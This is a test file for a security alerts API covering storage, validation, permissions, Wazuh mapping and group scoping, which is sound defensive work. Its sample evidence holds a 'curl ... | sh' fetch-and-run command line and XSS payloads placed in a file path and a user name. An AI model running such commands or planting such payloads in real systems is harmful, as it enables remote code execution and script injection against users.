import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { TEST_DIALECT, useTestApp } from '../../test/helper.ts';

const sample = (name: string) => JSON.parse(readFileSync(new URL(`./samples/${name}`, import.meta.url), 'utf8')) as Record<string, unknown>;

describe(`alerts in (${TEST_DIALECT})`, () => {
  const ctx = useTestApp();
  const count = async (table: 'alerts' | 'alert_evidence') => Number((await ctx().store.db.selectFrom(table).select((eb) => eb.fn.countAll().as('n')).executeTakeFirstOrThrow()).n);
  const alert = (deviceId: string, extra: Record<string, unknown> = {}) => ({
    title: 'Suspicious binary launched from a temp folder', severity: 'high', category: 'execution', detectionSource: 'edr-rules', deviceId,
    occurredAt: '2026-11-28T10:00:00Z',
    evidence: [
      { kind: 'file', path: '/tmp/.cache/<img src=x onerror=alert(1)>.elf', sha256: 'A'.repeat(64) },
      { kind: 'process', name: 'sh', commandLine: 'sh -c "curl http://198.51.100.4/x | sh"', pid: 4242 },
      { kind: 'ip', address: '198.51.100.4' },
      { kind: 'user', name: 'deploy' },
    ],
    ...extra,
  });

  it('stores an alert with its evidence as data, once per externalId of a source, and lists it newest first', async () => {
    const device = await ctx().createDevice({ name: 'web-02' });
    const created = await ctx().request(ctx().users.security_operator, 'POST', '/api/alerts', alert(device, { externalId: 'rule-77:evt-1' }));
    expect(created.statusCode).toBe(201);
    expect(created.json()).toMatchObject({ status: 'new', classification: null, deviceName: 'web-02', severity: 'high', evidence: alert(device).evidence });
    const again = await ctx().request(ctx().users.security_operator, 'POST', '/api/alerts', alert(device, { externalId: 'rule-77:evt-1' }));
    expect(again.statusCode).toBe(200);
    expect(again.json().id).toBe(created.json().id);
    const hashes = await ctx().store.db.selectFrom('alert_evidence').select(['kind', 'value']).where('alert_id', '=', created.json().id).orderBy('kind').orderBy('value').execute();
    expect(hashes).toEqual([
      { kind: 'ip', value: '198.51.100.4' }, { kind: 'path', value: '/tmp/.cache/<img src=x onerror=alert(1)>.elf' }, { kind: 'process', value: 'sh' },
      { kind: 'sha256', value: 'a'.repeat(64) }, { kind: 'user', value: 'deploy' },
    ]);
    const page = (await ctx().request(ctx().users.security_reader, 'GET', `/api/alerts?deviceId=${device}&limit=1`)).json();
    expect(page.items.map((a: { id: string }) => a.id)).toEqual([created.json().id]);
    expect((await ctx().request(ctx().users.security_reader, 'GET', `/api/alerts?cursor=${page.nextCursor}&deviceId=${device}`)).json().items).toEqual([]);
  });

  it('refuses malformed, oversized and unknown input with a 400 and stores nothing', async () => {
    const device = await ctx().createDevice();
    const before = [await count('alerts'), await count('alert_evidence')];
    const cases: Array<[unknown, string]> = [
      [{ ...alert(device), severity: 'apocalyptic' }, 'validation_failed'],
      [{ ...alert(device), evidence: [{ kind: 'file', path: '/x', sha256: 'not-a-hash' }] }, 'validation_failed'],
      [{ ...alert(device), evidence: [{ kind: 'ip', address: '999.1.1.1' }] }, 'validation_failed'],
      [{ ...alert(device), evidence: [{ kind: 'rootkit', name: 'x' }] }, 'validation_failed'],
      [{ ...alert(device), evidence: Array.from({ length: 101 }, () => ({ kind: 'user', name: 'u' })) }, 'validation_failed'],
      [{ ...alert(device), occurredAt: 'yesterday' }, 'validation_failed'],
      [{ ...alert(device), title: 'x'.repeat(501) }, 'validation_failed'],
      [{ ...alert(device), admin: true }, 'validation_failed'],
    ];
    for (const [body, code] of cases) {
      const response = await ctx().request(ctx().users.security_operator, 'POST', '/api/alerts', body);
      expect(response.statusCode, JSON.stringify(body).slice(0, 200)).toBe(400);
      expect(response.json().code).toBe(code);
    }
    const unknownDevice = await ctx().request(ctx().users.security_operator, 'POST', '/api/alerts', alert('01900000-0000-7000-8000-000000000000'));
    expect(unknownDevice.statusCode).toBe(404);
    expect(unknownDevice.json().code).toBe('device_not_found');
    expect([await count('alerts'), await count('alert_evidence')]).toEqual(before);
  });

  it('lets readers read, operators send and triage, and a token only with its scope', async () => {
    const device = await ctx().createDevice();
    expect((await ctx().request(ctx().users.security_reader, 'POST', '/api/alerts', alert(device))).json().code).toBe('forbidden');
    const { secret } = await ctx().services.tokens.create(ctx().users.security_admin.actor, { name: 'soar', scopes: ['alerts:read'], expiresInDays: 1 }, ctx().users.security_operator.actor);
    const scoped = await ctx().app.inject({ method: 'POST', url: '/api/alerts', headers: { authorization: `Bearer ${secret}` }, payload: alert(device) });
    expect(scoped.statusCode).toBe(403);
    expect(scoped.json().code).toBe('token_scope_missing');

    const id = (await ctx().request(ctx().users.security_operator, 'POST', '/api/alerts', alert(device))).json().id;
    expect((await ctx().request(ctx().users.security_reader, 'PATCH', `/api/alerts/${id}`, { status: 'resolved' })).statusCode).toBe(403);
    const triaged = await ctx().request(ctx().users.security_operator, 'PATCH', `/api/alerts/${id}`, { status: 'resolved', classification: 'false_positive', determination: 'line_of_business_application', comment: 'build server' });
    expect(triaged.statusCode).toBe(200);
    expect(triaged.json()).toMatchObject({ status: 'resolved', classification: 'false_positive', determination: 'line_of_business_application', updatedBy: 'security-operator' });
    const audited = await ctx().store.db.selectFrom('audit_log').select(['kind', 'after_json']).where('target_id', '=', id).where('kind', '=', 'alert.update').executeTakeFirstOrThrow();
    expect(JSON.parse(audited.after_json!)).toMatchObject({ classification: 'false_positive', comment: 'build server' });
    expect((await ctx().request(ctx().users.security_operator, 'PATCH', `/api/alerts/${id}`, {})).json().code).toBe('validation_failed');
  });

  it('maps Wazuh alerts (file integrity, sshd brute force) onto the device named like the Wazuh agent, and an unknown agent onto a new unmanaged device', async () => {
    const web = await ctx().createDevice({ name: 'web-01' });
    const bastion = await ctx().createDevice({ name: 'bastion' });
    const fim = await ctx().request(ctx().users.security_operator, 'POST', '/api/alerts/wazuh', sample('wazuh-syscheck-added.json'));
    expect(fim.statusCode).toBe(201);
    expect(fim.json()).toMatchObject({
      deviceId: web, title: 'File added to the system.', severity: 'low', category: 'syscheck', detectionSource: 'wazuh',
      externalId: 'wazuh-manager:1764364449.2870941', occurredAt: '2026-11-28T21:14:09.512Z',
      evidence: [{ kind: 'file', path: '/tmp/.x/kworker', sha256: 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855', sha1: 'da39a3ee5e6b4b0d3255bfef95601890afd80709', md5: 'd41d8cd98f00b204e9800998ecf8427e' }],
    });
    const ssh = await ctx().request(ctx().users.security_operator, 'POST', '/api/alerts/wazuh', sample('wazuh-sshd-bruteforce.json'));
    expect(ssh.statusCode).toBe(201);
    expect(ssh.json()).toMatchObject({
      deviceId: bastion, severity: 'medium', category: 'sshd',
      evidence: [{ kind: 'ip', address: '203.0.113.77' }, { kind: 'user', name: '<script>alert(1)</script>' }],
    });
    // Wazuh resends: nothing doubles.
    expect((await ctx().request(ctx().users.security_operator, 'POST', '/api/alerts/wazuh', sample('wazuh-syscheck-added.json'))).statusCode).toBe(200);

    // An agent Quell has no device for: the alert is kept, on a new unmanaged device.
    const unknownAgent = await ctx().request(ctx().users.security_operator, 'POST', '/api/alerts/wazuh', { ...sample('wazuh-sshd-bruteforce.json'), id: 'other', agent: { name: 'nobody' } });
    expect(unknownAgent.statusCode).toBe(201);
    expect(unknownAgent.json().device).toMatchObject({ name: 'nobody', managed: false, created: true, matchedBy: 'created' });
    const noRule = await ctx().request(ctx().users.security_operator, 'POST', '/api/alerts/wazuh', { ...sample('wazuh-sshd-bruteforce.json'), rule: undefined });
    expect(noRule.json().code).toBe('validation_failed');
    const badDate = await ctx().request(ctx().users.security_operator, 'POST', '/api/alerts/wazuh', { ...sample('wazuh-sshd-bruteforce.json'), timestamp: '2026-13-45T99:00:00.000+0000' });
    expect(badDate.statusCode).toBe(400);
  });

  it('keeps alerts of other device groups out of sight of scoped users', async () => {
    const group = (await ctx().services.devices.createGroup(ctx().users.security_admin.actor, { name: 'finance', rank: 1, automationLevel: 'full' })).id;
    const other = await ctx().createDevice({ groupId: group });
    const id = (await ctx().request(ctx().users.security_operator, 'POST', '/api/alerts', alert(other))).json().id;
    const scoped = await ctx().services.users.create(ctx().users.global_admin.actor, { username: 'scoped-reader', role: 'security_reader', password: 'correct horse battery staple', deviceGroupIds: [] });
    const elsewhere = (await ctx().services.devices.createGroup(ctx().users.security_admin.actor, { name: 'hr', rank: 2, automationLevel: 'full' })).id;
    const actor = { kind: 'user' as const, userId: scoped.id, name: 'scoped-reader', role: 'security_reader' as const, scopes: null, groupIds: [elsewhere], sourceIp: null };
    await expect(ctx().services.alerts.get(actor, id)).rejects.toMatchObject({ code: 'alert_not_found' });
    expect((await ctx().services.alerts.list(actor, {})).items).toEqual([]);
  });
});
